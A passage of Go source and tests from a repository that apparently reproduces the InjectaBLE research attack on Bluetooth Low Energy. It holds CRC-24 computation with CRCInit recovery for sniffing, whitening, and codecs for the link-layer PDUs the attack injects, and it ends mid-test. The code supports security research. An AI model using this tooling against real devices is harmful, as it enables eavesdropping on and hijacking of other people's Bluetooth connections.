	if b[0] == b[1] && b[1] == b[2] && b[2] == b[3] {
		return false
	}
	// No more than six consecutive zeros or ones.
	run, prev := 1, v&1
	maxRun := 1
	transitions := 0
	msbTransitions := 0
	for i := 1; i < 32; i++ {
		bit := (v >> i) & 1
		if bit == prev {
			run++
			if run > maxRun {
				maxRun = run
			}
		} else {
			transitions++
			if i >= 26 {
				msbTransitions++
			}
			run = 1
		}
		prev = bit
	}
	if maxRun > 6 {
		return false
	}
	if transitions > 24 {
		return false
	}
	return msbTransitions >= 1
}

// NewAccessAddress draws a random access address satisfying
// ValidForConnection.
func NewAccessAddress(rng *sim.RNG) AccessAddress {
	for {
		a := AccessAddress(rng.Uint32())
		if a.ValidForConnection() {
			return a
		}
	}
}

// Address is a 48-bit Bluetooth device address.
type Address [6]byte

// ParseAddress parses "AA:BB:CC:DD:EE:FF" (most significant byte first).
func ParseAddress(s string) (Address, error) {
	var a Address
	parts := strings.Split(s, ":")
	if len(parts) != 6 {
		return a, fmt.Errorf("ble: malformed address %q", s)
	}
	for i, p := range parts {
		b, err := hex.DecodeString(p)
		if err != nil || len(b) != 1 {
			return a, fmt.Errorf("ble: malformed address %q", s)
		}
		a[i] = b[0]
	}
	return a, nil
}

// MustParseAddress is ParseAddress that panics on error, for tests and
// fixed fixtures.
func MustParseAddress(s string) Address {
	a, err := ParseAddress(s)
	if err != nil {
		panic(err)
	}
	return a
}

// RandomAddress draws a static random device address (two MSBs set).
func RandomAddress(rng *sim.RNG) Address {
	var a Address
	rng.Bytes(a[:])
	a[0] |= 0xC0
	return a
}

// String implements fmt.Stringer.
func (a Address) String() string {
	return fmt.Sprintf("%02X:%02X:%02X:%02X:%02X:%02X", a[0], a[1], a[2], a[3], a[4], a[5])
}

// LittleEndian returns the address in on-air byte order (least significant
// byte first).
func (a Address) LittleEndian() []byte {
	out := make([]byte, 6)
	for i := 0; i < 6; i++ {
		out[i] = a[5-i]
	}
	return out
}

// AddressFromLittleEndian parses the on-air byte order.
func AddressFromLittleEndian(b []byte) Address {
	var a Address
	for i := 0; i < 6 && i < len(b); i++ {
		a[5-i] = b[i]
	}
	return a
}

// ChannelMap is the 37-bit data-channel usability bitmap carried in
// CONNECT_REQ and LL_CHANNEL_MAP_IND (bit n = data channel n usable).
type ChannelMap uint64

// AllChannels marks all 37 data channels used.
const AllChannels ChannelMap = (1 << 37) - 1

// Used reports whether data channel ch is marked used.
func (m ChannelMap) Used(ch uint8) bool {
	return ch < 37 && m&(1<<ch) != 0
}

// CountUsed returns the number of used channels.
func (m ChannelMap) CountUsed() int {
	n := 0
	for ch := uint8(0); ch < 37; ch++ {
		if m.Used(ch) {
			n++
		}
	}
	return n
}

// UsedChannels lists used channels in ascending order.
func (m ChannelMap) UsedChannels() []uint8 {
	out := make([]uint8, 0, 37)
	for ch := uint8(0); ch < 37; ch++ {
		if m.Used(ch) {
			out = append(out, ch)
		}
	}
	return out
}

// Without returns a copy with the listed channels marked unused.
func (m ChannelMap) Without(chs ...uint8) ChannelMap {
	for _, ch := range chs {
		if ch < 37 {
			m &^= 1 << ch
		}
	}
	return m
}

// Valid reports whether the map is usable: at least two channels and no
// bits above 36 (the spec requires ≥2 used channels).
func (m ChannelMap) Valid() bool {
	return m&^AllChannels == 0 && m.CountUsed() >= 2
}

// Bytes returns the 5-byte on-air encoding (little endian).
func (m ChannelMap) Bytes() []byte {
	return []byte{byte(m), byte(m >> 8), byte(m >> 16), byte(m >> 24), byte(m>>32) & 0x1F}
}

// ChannelMapFromBytes decodes the 5-byte on-air encoding.
func ChannelMapFromBytes(b []byte) ChannelMap {
	var m ChannelMap
	for i := 0; i < 5 && i < len(b); i++ {
		m |= ChannelMap(b[i]) << (8 * i)
	}
	return m & AllChannels
}

// String implements fmt.Stringer.
func (m ChannelMap) String() string {
	return fmt.Sprintf("ChannelMap(%d used)", m.CountUsed())
}

// SCA is the Sleep Clock Accuracy field of CONNECT_REQ: a 3-bit code for
// the master's worst-case clock error.
type SCA uint8

// SCA codes from the Core Specification (Vol 6 Part B §2.3.3.1).
const (
	SCA251to500ppm SCA = iota
	SCA151to250ppm
	SCA101to150ppm
	SCA76to100ppm
	SCA51to75ppm
	SCA31to50ppm
	SCA21to30ppm
	SCA0to20ppm
)

// WorstPPM returns the upper bound of the SCA code's range — the value the
// peer must assume when computing window widening.
func (s SCA) WorstPPM() float64 {
	switch s {
	case SCA251to500ppm:
		return 500
	case SCA151to250ppm:
		return 250
	case SCA101to150ppm:
		return 150
	case SCA76to100ppm:
		return 100
	case SCA51to75ppm:
		return 75
	case SCA31to50ppm:
		return 50
	case SCA21to30ppm:
		return 30
	case SCA0to20ppm:
		return 20
	default:
		return 500
	}
}

// SCAFromPPM returns the smallest SCA code covering a rated ppm.
func SCAFromPPM(ppm float64) SCA {
	switch {
	case ppm <= 20:
		return SCA0to20ppm
	case ppm <= 30:
		return SCA21to30ppm
	case ppm <= 50:
		return SCA31to50ppm
	case ppm <= 75:
		return SCA51to75ppm
	case ppm <= 100:
		return SCA76to100ppm
	case ppm <= 150:
		return SCA101to150ppm
	case ppm <= 250:
		return SCA151to250ppm
	default:
		return SCA251to500ppm
	}
}

// String implements fmt.Stringer.
func (s SCA) String() string { return fmt.Sprintf("SCA(≤%.0fppm)", s.WorstPPM()) }
