package crc

import (
	"testing"
	"testing/quick"
)

func TestComputeDeterministic(t *testing.T) {
	pdu := []byte{0x01, 0x02, 0x03}
	a := Compute(0x555555, pdu)
	b := Compute(0x555555, pdu)
	if a != b {
		t.Fatal("CRC not deterministic")
	}
	if a > 0xFFFFFF {
		t.Fatal("CRC wider than 24 bits")
	}
}

func TestComputeSensitivity(t *testing.T) {
	pdu := []byte{0x40, 0x05, 0x01, 0x02, 0x03, 0x04, 0x05}
	base := Compute(0x123456, pdu)
	// Any single bit flip must change the CRC (linear code, distance ≥ 1).
	for i := 0; i < len(pdu)*8; i++ {
		mod := append([]byte(nil), pdu...)
		mod[i/8] ^= 1 << (i % 8)
		if Compute(0x123456, mod) == base {
			t.Fatalf("bit flip %d undetected", i)
		}
	}
	// Different init must change the CRC.
	if Compute(0x123457, pdu) == base {
		t.Fatal("init change undetected")
	}
}

func TestCheck(t *testing.T) {
	pdu := []byte{0xDE, 0xAD, 0xBE, 0xEF}
	c := Compute(0x555555, pdu)
	if !Check(0x555555, pdu, c) {
		t.Fatal("Check rejects valid CRC")
	}
	if Check(0x555555, pdu, c^1) {
		t.Fatal("Check accepts corrupted CRC")
	}
	// Extra high bits in got must be ignored (24-bit field).
	if !Check(0x555555, pdu, c|0xFF000000) {
		t.Fatal("Check not masking to 24 bits")
	}
}

func TestEmptyPDU(t *testing.T) {
	if Compute(0xABCDEF, nil) != 0xABCDEF {
		t.Fatal("empty PDU should leave LFSR at init")
	}
}

func TestRecoverInitSimple(t *testing.T) {
	init := uint32(0x8E89BE)
	pdu := []byte{0x0F, 0x07, 0x41, 0x42, 0x43, 0x44, 0x45, 0x46, 0x47}
	crc := Compute(init, pdu)
	if got := RecoverInit(crc, pdu); got != init {
		t.Fatalf("RecoverInit = %06X, want %06X", got, init)
	}
}

// Property: RecoverInit inverts Compute for arbitrary inits and PDUs —
// the sniffer can always recover CRCInit from one clean frame.
func TestRecoverInitProperty(t *testing.T) {
	f := func(init uint32, pdu []byte) bool {
		init &= 0xFFFFFF
		crc := Compute(init, pdu)
		return RecoverInit(crc, pdu) == init
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

// Property: Compute is prefix-composable — running bytes through one at a
// time chains the LFSR state.
func TestComputeComposableProperty(t *testing.T) {
	f := func(init uint32, a, b []byte) bool {
		init &= 0xFFFFFF
		whole := Compute(init, append(append([]byte(nil), a...), b...))
		chained := Compute(Compute(init, a), b)
		return whole == chained
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkCompute27Bytes(b *testing.B) {
	pdu := make([]byte, 27)
	for i := range pdu {
		pdu[i] = byte(i)
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		Compute(0x555555, pdu)
	}
}
