// Package crc implements the 24-bit CRC of the BLE Link Layer
// (polynomial x²⁴+x¹⁰+x⁹+x⁶+x⁴+x³+x+1), including the *reverse* LFSR run
// used by sniffers to recover the CRCInit of an established connection from
// captured frames — the technique introduced by Ryan (paper ref. [19]) that
// InjectaBLE's synchronisation step builds upon.
package crc

// poly is the CRC-24 feedback polynomial's tap mask, bits 0,1,3,4,6,9,10
// (x²⁴ is implicit).
const poly uint32 = 0x00065B

// mask keeps values to 24 bits.
const mask uint32 = 0xFFFFFF

// Compute runs the BLE CRC over pdu, starting from init (24 significant
// bits), processing each byte least-significant bit first, and returns the
// 24-bit CRC in LFSR register order.
//
// The register convention follows the spec: position 0 is shifted out and
// fed back. The transmitted CRC bits are the register read out LSB-first;
// Compute returns the register value so that comparing two Compute results
// is all a receiver needs.
func Compute(init uint32, pdu []byte) uint32 {
	lfsr := init & mask
	for _, b := range pdu {
		for bit := 0; bit < 8; bit++ {
			in := uint32(b>>bit) & 1
			fb := (lfsr >> 23) ^ in // bit shifted out XOR input bit
			lfsr = (lfsr << 1) & mask
			if fb != 0 {
				lfsr ^= poly
			}
		}
	}
	return lfsr
}

// Check reports whether got is the CRC of pdu under init.
func Check(init uint32, pdu []byte, got uint32) bool {
	return Compute(init, pdu) == got&mask
}

// RecoverInit runs the LFSR backwards from a frame's transmitted CRC over
// its PDU, yielding the CRCInit that must have been used. This is how a
// sniffer that missed the CONNECT_REQ recovers the connection's CRCInit
// from any single correctly received data frame.
func RecoverInit(crc uint32, pdu []byte) uint32 {
	lfsr := crc & mask
	for i := len(pdu) - 1; i >= 0; i-- {
		b := pdu[i]
		for bit := 7; bit >= 0; bit-- {
			in := uint32(b>>bit) & 1
			// Invert one forward step: forward did
			//   fb = (old>>23) ^ in
			//   new = (old<<1) & mask, new ^= poly if fb
			// The low bit of new is poly&1 == 1 iff fb was 1.
			fb := lfsr & 1
			if fb != 0 {
				lfsr ^= poly
			}
			lfsr >>= 1
			if fb^in != 0 {
				lfsr |= 1 << 23
			}
		}
	}
	return lfsr
}
