// Package whitening implements BLE data whitening: a 7-bit LFSR
// (x⁷ + x⁴ + 1) seeded from the RF channel index, XORed over the PDU and
// CRC to avoid long runs of identical bits on air.
//
// Whitening is an involution (applying it twice restores the input), so
// Apply serves both directions.
package whitening

// Apply whitens (or de-whitens) data in place for the given RF channel
// index and returns it. The LFSR is initialised to 1 ∥ channel[5:0] per the
// Core Specification and clocked once per bit, least-significant bit first
// within each byte.
func Apply(channel uint8, data []byte) []byte {
	lfsr := 0x40 | (channel & 0x3F)
	for i := range data {
		var w byte
		for bit := 0; bit < 8; bit++ {
			out := lfsr & 0x40 >> 6 // position 6 output
			w |= out << bit
			fb := out
			lfsr = (lfsr << 1) & 0x7F
			if fb != 0 {
				lfsr ^= 0x11 // taps at positions 0 and 4
			}
		}
		data[i] ^= w
	}
	return data
}

// Copy returns a whitened copy of data, leaving the input untouched.
func Copy(channel uint8, data []byte) []byte {
	out := append([]byte(nil), data...)
	return Apply(channel, out)
}
