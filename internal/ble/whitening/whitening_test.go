package whitening

import (
	"bytes"
	"testing"
	"testing/quick"
)

func TestInvolutionProperty(t *testing.T) {
	f := func(channel uint8, data []byte) bool {
		channel %= 40
		orig := append([]byte(nil), data...)
		Apply(channel, data)
		Apply(channel, data)
		return bytes.Equal(orig, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestWhiteningChangesData(t *testing.T) {
	data := make([]byte, 16)
	out := Copy(23, data)
	if bytes.Equal(out, make([]byte, 16)) {
		t.Fatal("whitening left all-zero data unchanged")
	}
}

func TestChannelsDiffer(t *testing.T) {
	zero := make([]byte, 8)
	a := Copy(0, zero)
	b := Copy(36, zero)
	if bytes.Equal(a, b) {
		t.Fatal("different channels produced identical whitening")
	}
}

func TestCopyDoesNotMutate(t *testing.T) {
	data := []byte{1, 2, 3}
	orig := append([]byte(nil), data...)
	Copy(7, data)
	if !bytes.Equal(data, orig) {
		t.Fatal("Copy mutated its input")
	}
}

func TestDeterministicSequence(t *testing.T) {
	// The whitening stream for a channel is fixed: whitening all-zeros
	// twice must agree byte for byte.
	a := Copy(17, make([]byte, 32))
	b := Copy(17, make([]byte, 32))
	if !bytes.Equal(a, b) {
		t.Fatal("whitening stream not deterministic")
	}
}

func TestLFSRPeriod(t *testing.T) {
	// A maximal 7-bit LFSR has period 127 bits; the whitening stream must
	// repeat with that period and not earlier at byte granularity.
	stream := Copy(9, make([]byte, 127*2/8+2))
	// Compare bit i and bit i+127 across the stream.
	bit := func(i int) byte { return (stream[i/8] >> (i % 8)) & 1 }
	for i := 0; i+127 < len(stream)*8; i++ {
		if bit(i) != bit(i+127) {
			t.Fatalf("whitening LFSR period not 127 at bit %d", i)
		}
	}
}
