// Package pdu implements bit-exact codecs for the BLE Link Layer protocol
// data units the paper manipulates: advertising PDUs (including the
// CONNECT_REQ of Table II), data-channel PDUs with their SN/NESN/MD header
// bits (paper §III-B.6), and the LL control PDUs that the attack scenarios
// inject (LL_TERMINATE_IND, LL_CONNECTION_UPDATE_IND, LL_CHANNEL_MAP_IND,
// and the encryption-procedure PDUs).
package pdu

import (
	"errors"
	"fmt"
)

// Sentinel decode errors. Wrap-tested with errors.Is.
var (
	// ErrTruncated reports a PDU shorter than its header demands.
	ErrTruncated = errors.New("pdu: truncated")
	// ErrLength reports a header length inconsistent with the body.
	ErrLength = errors.New("pdu: length mismatch")
	// ErrUnknownType reports an unrecognised PDU type or opcode.
	ErrUnknownType = errors.New("pdu: unknown type")
)

func truncatedf(format string, args ...any) error {
	return fmt.Errorf("%w: %s", ErrTruncated, fmt.Sprintf(format, args...))
}

func lengthf(format string, args ...any) error {
	return fmt.Errorf("%w: %s", ErrLength, fmt.Sprintf(format, args...))
}

// le16 reads a little-endian uint16.
func le16(b []byte) uint16 { return uint16(b[0]) | uint16(b[1])<<8 }

// put16 appends a little-endian uint16.
func put16(dst []byte, v uint16) []byte { return append(dst, byte(v), byte(v>>8)) }

// le32 reads a little-endian uint32.
func le32(b []byte) uint32 {
	return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
}

// put32 appends a little-endian uint32.
func put32(dst []byte, v uint32) []byte {
	return append(dst, byte(v), byte(v>>8), byte(v>>16), byte(v>>24))
}

// le24 reads a little-endian 24-bit value.
func le24(b []byte) uint32 { return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 }

// put24 appends a little-endian 24-bit value.
func put24(dst []byte, v uint32) []byte {
	return append(dst, byte(v), byte(v>>8), byte(v>>16))
}
