package pdu

import (
	"testing"
	"testing/quick"
)

// The decoders face attacker-controlled bytes (that is the entire point of
// this repository): no input may panic, and any accepted input must
// round-trip consistently.

func TestUnmarshalAdvPDUNeverPanics(t *testing.T) {
	f := func(b []byte) bool {
		p, err := UnmarshalAdvPDU(b)
		if err != nil {
			return true
		}
		// Accepted inputs re-marshal to the same header+payload.
		out, err := UnmarshalAdvPDU(p.Marshal())
		return err == nil && out.Type == p.Type && len(out.Payload) == len(p.Payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestUnmarshalDataPDUNeverPanics(t *testing.T) {
	f := func(b []byte) bool {
		p, err := UnmarshalDataPDU(b)
		if err != nil {
			return true
		}
		out, err := UnmarshalDataPDU(p.Marshal())
		return err == nil && out.Header == p.Header
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestUnmarshalControlNeverPanics(t *testing.T) {
	f := func(b []byte) bool {
		c, err := UnmarshalControl(b)
		if err != nil {
			return true
		}
		// Accepted control PDUs round-trip bit-exactly.
		again, err := UnmarshalControl(MarshalControl(c))
		return err == nil && again.Opcode() == c.Opcode()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

func TestUnmarshalPayloadParsersNeverPanic(t *testing.T) {
	f := func(b []byte) bool {
		_, _ = UnmarshalAdvInd(b)
		_, _ = UnmarshalScanReq(b)
		_, _ = UnmarshalScanRsp(b)
		_, _ = UnmarshalConnectReq(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}
