package pdu

import (
	"bytes"
	"testing"
)

// The decoders face attacker-controlled bytes (that is the entire point of
// this repository): no input may panic, and any accepted input must
// round-trip consistently. Seed corpora live under testdata/fuzz/; run the
// engines with e.g.
//
//	go test ./internal/ble/pdu -fuzz=FuzzUnmarshalAdvPDU -fuzztime=30s

func FuzzUnmarshalAdvPDU(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{0x40, 0x00})
	f.Add(AdvPDU{Type: AdvIndType, TxAdd: true, Payload: make([]byte, 8)}.Marshal())
	f.Add(AdvPDU{Type: ConnectReqType, TxAdd: true, Payload: make([]byte, 34)}.Marshal())
	f.Add(AdvPDU{Type: ScanReqType, Payload: make([]byte, 12)}.Marshal())
	f.Fuzz(func(t *testing.T, b []byte) {
		p, err := UnmarshalAdvPDU(b)
		if err == nil {
			out, err := UnmarshalAdvPDU(p.Marshal())
			if err != nil {
				t.Fatalf("accepted PDU does not re-parse: %v", err)
			}
			if out.Type != p.Type || !bytes.Equal(out.Payload, p.Payload) {
				t.Fatalf("round-trip changed the PDU: %+v -> %+v", p, out)
			}
			// The typed payload parsers must tolerate whatever survived the
			// header check.
			_, _ = UnmarshalAdvInd(p.Payload)
			_, _ = UnmarshalConnectReq(p.Payload)
		}
		// ...and arbitrary bytes, with or without a valid header.
		_, _ = UnmarshalAdvInd(b)
		_, _ = UnmarshalScanReq(b)
		_, _ = UnmarshalScanRsp(b)
		_, _ = UnmarshalConnectReq(b)
	})
}

func FuzzUnmarshalDataPDU(f *testing.F) {
	f.Add([]byte{})
	f.Add(Empty(false, true).Marshal())
	f.Add(DataPDU{Header: DataHeader{LLID: LLIDStart}, Payload: []byte{4, 0, 4, 0, 0x52, 5, 0, 1}}.Marshal())
	f.Add([]byte{0x03, 0x01, 0x12})
	f.Fuzz(func(t *testing.T, b []byte) {
		p, err := UnmarshalDataPDU(b)
		if err != nil {
			return
		}
		out, err := UnmarshalDataPDU(p.Marshal())
		if err != nil {
			t.Fatalf("accepted PDU does not re-parse: %v", err)
		}
		if out.Header != p.Header || !bytes.Equal(out.Payload, p.Payload) {
			t.Fatalf("round-trip changed the PDU: %+v -> %+v", p, out)
		}
	})
}

func FuzzUnmarshalControl(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{byte(OpTerminateInd), 0x13})
	f.Add([]byte{byte(OpPingReq)})
	f.Add(MarshalControl(ConnectionUpdateInd{Interval: 36, Timeout: 100}))
	f.Add(MarshalControl(ChannelMapInd{ChannelMap: 1<<37 - 1}))
	f.Fuzz(func(t *testing.T, b []byte) {
		c, err := UnmarshalControl(b)
		if err != nil {
			return
		}
		again, err := UnmarshalControl(MarshalControl(c))
		if err != nil {
			t.Fatalf("accepted control PDU does not re-parse: %v", err)
		}
		if again.Opcode() != c.Opcode() {
			t.Fatalf("round-trip changed the opcode: %v -> %v", c.Opcode(), again.Opcode())
		}
	})
}
