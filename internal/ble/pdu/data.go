package pdu

import "fmt"

// LLID is the 2-bit logical link identifier of a data-channel PDU header.
type LLID uint8

// LLID values (Core Spec Vol 6 Part B §2.4).
const (
	// LLIDContinuation is an L2CAP continuation fragment or empty PDU.
	LLIDContinuation LLID = 0x1
	// LLIDStart is an L2CAP start fragment or complete message.
	LLIDStart LLID = 0x2
	// LLIDControl is an LL control PDU.
	LLIDControl LLID = 0x3
)

// String implements fmt.Stringer.
func (l LLID) String() string {
	switch l {
	case LLIDContinuation:
		return "cont"
	case LLIDStart:
		return "start"
	case LLIDControl:
		return "control"
	default:
		return fmt.Sprintf("LLID(%d)", uint8(l))
	}
}

// DataHeader is the 16-bit data-channel PDU header carrying the
// acknowledgement machinery the injection forges: SN, NESN and MD
// (paper §III-B.6, eq. 6).
type DataHeader struct {
	LLID   LLID
	NESN   bool // next expected sequence number
	SN     bool // sequence number
	MD     bool // more data in this connection event
	Length uint8
}

// DataPDU is a data-channel PDU: header plus payload.
type DataPDU struct {
	Header  DataHeader
	Payload []byte
}

// Empty returns the empty PDU a device sends when it has nothing queued.
func Empty(sn, nesn bool) DataPDU {
	return DataPDU{Header: DataHeader{LLID: LLIDContinuation, SN: sn, NESN: nesn}}
}

// IsEmpty reports whether this is an empty (keep-alive) PDU.
func (p DataPDU) IsEmpty() bool {
	return p.Header.LLID == LLIDContinuation && len(p.Payload) == 0
}

// IsControl reports whether this is an LL control PDU.
func (p DataPDU) IsControl() bool { return p.Header.LLID == LLIDControl }

// Marshal renders the on-air PDU. The header Length field is forced to the
// payload length.
func (p DataPDU) Marshal() []byte {
	h0 := byte(p.Header.LLID) & 0x3
	if p.Header.NESN {
		h0 |= 1 << 2
	}
	if p.Header.SN {
		h0 |= 1 << 3
	}
	if p.Header.MD {
		h0 |= 1 << 4
	}
	out := make([]byte, 0, 2+len(p.Payload))
	out = append(out, h0, byte(len(p.Payload)))
	return append(out, p.Payload...)
}

// UnmarshalDataPDU parses a data-channel PDU.
func UnmarshalDataPDU(b []byte) (DataPDU, error) {
	var p DataPDU
	if len(b) < 2 {
		return p, truncatedf("data header needs 2 bytes, have %d", len(b))
	}
	p.Header.LLID = LLID(b[0] & 0x3)
	p.Header.NESN = b[0]&(1<<2) != 0
	p.Header.SN = b[0]&(1<<3) != 0
	p.Header.MD = b[0]&(1<<4) != 0
	p.Header.Length = b[1]
	n := int(b[1])
	if len(b)-2 < n {
		return p, truncatedf("data payload needs %d bytes, have %d", n, len(b)-2)
	}
	if len(b)-2 != n {
		return p, lengthf("data payload %d bytes, header says %d", len(b)-2, n)
	}
	if p.Header.LLID == 0 {
		return p, fmt.Errorf("%w: LLID 0 reserved", ErrUnknownType)
	}
	p.Payload = append([]byte(nil), b[2:2+n]...)
	return p, nil
}

// String implements fmt.Stringer for trace output.
func (p DataPDU) String() string {
	return fmt.Sprintf("Data{%v sn=%t nesn=%t md=%t len=%d}",
		p.Header.LLID, p.Header.SN, p.Header.NESN, p.Header.MD, len(p.Payload))
}
