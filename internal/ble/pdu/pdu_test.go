package pdu

import (
	"bytes"
	"errors"
	"reflect"
	"testing"
	"testing/quick"

	"injectable/internal/ble"
)

func TestAdvPDURoundTrip(t *testing.T) {
	in := AdvPDU{Type: AdvIndType, TxAdd: true, Payload: []byte{1, 2, 3}}
	out, err := UnmarshalAdvPDU(in.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if out.Type != in.Type || out.TxAdd != in.TxAdd || out.RxAdd != in.RxAdd ||
		!bytes.Equal(out.Payload, in.Payload) {
		t.Fatalf("round trip: %+v != %+v", out, in)
	}
}

func TestAdvPDUErrors(t *testing.T) {
	if _, err := UnmarshalAdvPDU([]byte{0x00}); !errors.Is(err, ErrTruncated) {
		t.Errorf("1-byte PDU: %v", err)
	}
	if _, err := UnmarshalAdvPDU([]byte{0x00, 0x05, 0x01}); !errors.Is(err, ErrTruncated) {
		t.Errorf("short payload: %v", err)
	}
	if _, err := UnmarshalAdvPDU([]byte{0x00, 0x01, 0x01, 0x02}); !errors.Is(err, ErrLength) {
		t.Errorf("long payload: %v", err)
	}
}

func TestAdvTypeStrings(t *testing.T) {
	if ConnectReqType.String() != "CONNECT_REQ" || AdvIndType.String() != "ADV_IND" {
		t.Fatal("type strings wrong")
	}
	if AdvType(0xF).String() == "" {
		t.Fatal("unknown type should still render")
	}
}

func TestAdvIndRoundTrip(t *testing.T) {
	in := AdvInd{
		AdvAddr: ble.MustParseAddress("C0:11:22:33:44:55"),
		AdvData: []byte{0x02, 0x01, 0x06, 0x05, 0x09, 'b', 'u', 'l', 'b'},
	}
	p, err := UnmarshalAdvPDU(in.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	if p.Type != AdvIndType || !p.TxAdd {
		t.Fatalf("header: %+v", p)
	}
	out, err := UnmarshalAdvInd(p.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if out.AdvAddr != in.AdvAddr || !bytes.Equal(out.AdvData, in.AdvData) {
		t.Fatalf("round trip: %+v != %+v", out, in)
	}
}

func TestScanReqRspRoundTrip(t *testing.T) {
	req := ScanReq{
		ScanAddr: ble.MustParseAddress("C0:00:00:00:00:01"),
		AdvAddr:  ble.MustParseAddress("C0:00:00:00:00:02"),
	}
	p, err := UnmarshalAdvPDU(req.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	gotReq, err := UnmarshalScanReq(p.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if gotReq != req {
		t.Fatalf("SCAN_REQ round trip: %+v", gotReq)
	}

	rsp := ScanRsp{AdvAddr: req.AdvAddr, ScanData: []byte{0x05, 0x09, 't', 'e', 's'}}
	p2, err := UnmarshalAdvPDU(rsp.Marshal())
	if err != nil {
		t.Fatal(err)
	}
	gotRsp, err := UnmarshalScanRsp(p2.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if gotRsp.AdvAddr != rsp.AdvAddr || !bytes.Equal(gotRsp.ScanData, rsp.ScanData) {
		t.Fatalf("SCAN_RSP round trip: %+v", gotRsp)
	}
}

func TestScanReqWrongLength(t *testing.T) {
	if _, err := UnmarshalScanReq(make([]byte, 11)); !errors.Is(err, ErrLength) {
		t.Fatal(err)
	}
}

func sampleConnectReq() ConnectReq {
	return ConnectReq{
		InitAddr:      ble.MustParseAddress("C0:AA:BB:CC:DD:EE"),
		AdvAddr:       ble.MustParseAddress("C0:11:22:33:44:55"),
		AccessAddress: 0x71764129,
		CRCInit:       0x123456,
		WinSize:       2,
		WinOffset:     7,
		Interval:      36,
		Latency:       0,
		Timeout:       100,
		ChannelMap:    ble.AllChannels.Without(3, 9),
		Hop:           11,
		SCA:           ble.SCA31to50ppm,
	}
}

func TestConnectReqRoundTrip(t *testing.T) {
	in := sampleConnectReq()
	raw := in.Marshal()
	p, err := UnmarshalAdvPDU(raw)
	if err != nil {
		t.Fatal(err)
	}
	if p.Type != ConnectReqType {
		t.Fatalf("type = %v", p.Type)
	}
	out, err := UnmarshalConnectReq(p.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(out, in) {
		t.Fatalf("round trip:\n got %+v\nwant %+v", out, in)
	}
}

func TestConnectReqTableIILayout(t *testing.T) {
	// Table II: field offsets and sizes inside the 34-byte payload.
	in := sampleConnectReq()
	p, _ := UnmarshalAdvPDU(in.Marshal())
	payload := p.Payload
	if len(payload) != 34 {
		t.Fatalf("CONNECT_REQ payload = %d bytes, Table II says 34", len(payload))
	}
	// Access address at offset 12, little endian.
	if got := le32(payload[12:16]); got != 0x71764129 {
		t.Errorf("AA bytes = %08x", got)
	}
	// CRCInit: 3 bytes at offset 16.
	if got := le24(payload[16:19]); got != 0x123456 {
		t.Errorf("CRCInit = %06x", got)
	}
	// WinSize 1 byte at 19, WinOffset 2 bytes at 20, Interval at 22.
	if payload[19] != 2 || le16(payload[20:22]) != 7 || le16(payload[22:24]) != 36 {
		t.Error("window/interval fields misplaced")
	}
	// Hop in low 5 bits of last byte, SCA in high 3.
	last := payload[33]
	if last&0x1F != 11 || last>>5 != uint8(ble.SCA31to50ppm) {
		t.Errorf("hop/SCA byte = %02x", last)
	}
}

func TestConnectReqWrongLength(t *testing.T) {
	if _, err := UnmarshalConnectReq(make([]byte, 33)); !errors.Is(err, ErrLength) {
		t.Fatal(err)
	}
}

func TestConnectReqValidate(t *testing.T) {
	good := sampleConnectReq()
	if err := good.Validate(); err != nil {
		t.Fatalf("valid CONNECT_REQ rejected: %v", err)
	}
	bad := good
	bad.Hop = 3
	if bad.Validate() == nil {
		t.Error("hop 3 accepted")
	}
	bad = good
	bad.Interval = 4
	if bad.Validate() == nil {
		t.Error("interval 4 accepted")
	}
	bad = good
	bad.WinSize = 0
	if bad.Validate() == nil {
		t.Error("winSize 0 accepted")
	}
	bad = good
	bad.WinOffset = 4000
	if bad.Validate() == nil {
		t.Error("winOffset > interval accepted")
	}
	bad = good
	bad.ChannelMap = 1
	if bad.Validate() == nil {
		t.Error("single-channel map accepted")
	}
	bad = good
	bad.AccessAddress = ble.AdvertisingAccessAddress
	if bad.Validate() == nil {
		t.Error("advertising AA accepted")
	}
}

func TestDataPDURoundTrip(t *testing.T) {
	f := func(llidRaw uint8, nesn, sn, md bool, payload []byte) bool {
		llid := LLID(llidRaw%3 + 1)
		if len(payload) > 251 {
			payload = payload[:251]
		}
		in := DataPDU{Header: DataHeader{LLID: llid, NESN: nesn, SN: sn, MD: md}, Payload: payload}
		out, err := UnmarshalDataPDU(in.Marshal())
		if err != nil {
			return false
		}
		return out.Header.LLID == llid && out.Header.NESN == nesn &&
			out.Header.SN == sn && out.Header.MD == md &&
			bytes.Equal(out.Payload, payload)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

func TestDataPDUHeaderBits(t *testing.T) {
	p := DataPDU{Header: DataHeader{LLID: LLIDControl, NESN: true, SN: false, MD: true}}
	raw := p.Marshal()
	// LLID=3 (bits 0-1), NESN bit 2, SN bit 3, MD bit 4.
	if raw[0] != 0x3|1<<2|1<<4 {
		t.Fatalf("header byte = %02x", raw[0])
	}
	if raw[1] != 0 {
		t.Fatalf("length byte = %d", raw[1])
	}
}

func TestDataPDUErrors(t *testing.T) {
	if _, err := UnmarshalDataPDU([]byte{0x01}); !errors.Is(err, ErrTruncated) {
		t.Error(err)
	}
